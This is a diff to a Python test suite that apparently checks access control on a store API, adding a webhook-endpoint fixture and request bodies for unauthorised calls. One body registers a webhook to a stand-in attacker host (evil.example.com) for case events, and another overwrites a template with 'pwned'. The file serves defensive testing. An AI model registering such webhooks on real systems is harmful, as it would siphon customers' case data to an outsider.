@@ -34,6 +34,10 @@ BODIES: dict[tuple[str, str], tuple[str, str]] = {
     ),
     ("PUT", "/stores/{store_id}/products/{sku}"): ("application/json", json.dumps({"warranty_months": 1})),
     ("PUT", "/stores/{store_id}/templates/{name}/{lang}"): ("application/json", json.dumps({"source": "pwned"})),
+    ("POST", "/stores/{store_id}/endpoints"): (
+        "application/json",
+        json.dumps({"url": "https://evil.example.com/in", "events": ["case.opened"]}),
+    ),
     ("PATCH", "/stores/{store_id}/cases/{case_id}"): (
         "application/json",
         json.dumps({"action": "resolve", "outcome": "other", "note": "x", "by": "eve"}),
@@ -97,7 +101,19 @@ def world(app: Any, client: Any) -> dict[str, Any]:
         ).status_code
         == 200
     )
-    return {"a": a, "b": b, "case_id": cases[0]["case_id"], "survey_token": link.token}
+    endpoint = client.http.post(
+        f"/stores/{a['store_id']}/endpoints",
+        headers=auth(a["api_key"]),
+        body=json.dumps({"url": "https://hooks.example.com/in", "events": ["case.opened"], "description": MARKER}),
+    )
+    assert endpoint.status_code == 201, endpoint.body
+    return {
+        "a": a,
+        "b": b,
+        "case_id": cases[0]["case_id"],
+        "survey_token": link.token,
+        "endpoint_id": endpoint.json_body["endpoint_id"],
+    }
 
 
 def concrete(path: str, world: dict[str, Any]) -> str:
@@ -108,6 +124,7 @@ def concrete(path: str, world: dict[str, Any]) -> str:
         "sku": "TEA-1",
         "name": "survey.subject",
         "lang": "en",
+        "endpoint_id": world["endpoint_id"],
     }
     return re.sub(r"{(\w+)\+?}", lambda m: values[m.group(1)], path)
 
